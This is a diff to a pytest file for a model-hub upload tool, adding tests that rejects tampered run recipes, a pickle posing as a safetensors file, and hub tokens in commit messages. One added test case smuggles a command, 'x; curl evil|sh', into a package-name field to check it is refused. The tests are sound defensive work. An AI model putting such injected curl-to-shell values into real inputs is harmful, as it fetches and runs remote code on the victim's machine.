@@ -1,6 +1,7 @@
 """Runs that somebody edited or that are damaged: told in one line, before anything is sent."""
 
 import json
+import pickle
 import shutil
 
 import pytest
@@ -16,6 +17,8 @@ from omniflow.hub.refusals import PushError
 from omniflow.hub.staging import Inclusions, stage
 from omniflow.recipe import dump_yaml
 from omniflow.resolve import resolve
+
+PART = {"kind": "head", "name": "linear", "distribution": "omniflow-zoo", "version": "0.1"}
 
 
 @pytest.fixture(scope="module")
@@ -54,6 +57,8 @@ def told(run, **options):
         ({"components": {}}, "its components cannot be read"),
         ({"components": [{"kind": "head"}]}, "its components cannot be read"),
         ({"components": []}, "its components lack backbone"),
+        ({"components": [PART | {"distribution": "x; curl evil|sh"}]}, "is no name and version of"),
+        ({"components": [PART | {"version": "1\n```"}]}, "is no name and version of a package"),
         ({"trainable": ...}, "it lacks trainable"),
         ({"omniflow_version": ...}, "it lacks omniflow_version"),
         ({"weights_hash": ...}, "the weights are not those that config.json was written with"),
@@ -77,6 +82,31 @@ def test_a_recipe_that_was_edited_is_told(run, old, new):
     path = run / "recipe.yaml"
     path.write_text(path.read_text().replace(old, new))
     assert f"{path}: is not a resolved recipe" in told(run)
+
+
+def test_a_training_state_that_is_no_safetensors_is_told(run):
+    shutil.copytree(run / "best", run / "latest")
+    state = run / "latest/training_state"
+    state.mkdir()
+    (state / "state.json").write_text("{}")
+    everything = Inclusions(training_state=True)
+    assert "tensors.safetensors: there is no such file" in told(run, include=everything)
+    (state / "tensors.safetensors").write_bytes(pickle.dumps({}))
+    with pytest.raises(CheckpointError, match="not a whole file of tensors"):
+        stage(run, include=everything)
+
+
+def test_a_message_has_no_secret_and_no_place(uploads, run):
+    messages = []
+
+    def listen(handler, method, path, body):
+        if "/commit/" in path:
+            messages.append(json.loads(body.splitlines()[0])["value"]["summary"])
+        return False
+
+    uploads.hub.routes.insert(0, listen)
+    push(run, "acme/mine", message="by hf_" + "a1B2" * 8 + f" of {run}")
+    assert messages == ["by hf_*** of ./run"]
 
 
 def test_files_that_are_no_text_are_told(run):
